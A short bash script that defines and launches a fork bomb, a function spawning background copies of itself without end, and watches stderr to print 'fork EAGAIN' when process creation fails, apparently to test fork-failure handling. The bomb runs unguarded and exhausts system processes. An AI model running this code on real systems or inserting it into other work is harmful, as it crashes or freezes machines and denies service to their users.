# Fork bomb: every background subshell starts more background subshells, forever.
# Bash retries a failed fork by itself and reports EAGAIN only on stderr ("fork: retry:
# Resource temporarily unavailable"); a watcher turns the first such line into "fork EAGAIN".
bomb() { while :; do bomb & done; }
watch() {
  local line said=
  while IFS= read -r line; do
    if [[ -z $said && $line == *"fork: "*"Resource temporarily unavailable"* ]]; then
      said=1
      echo "fork EAGAIN"
    fi
    printf '%s\n' "$line" >&2
  done
}
bomb 2> >(watch)
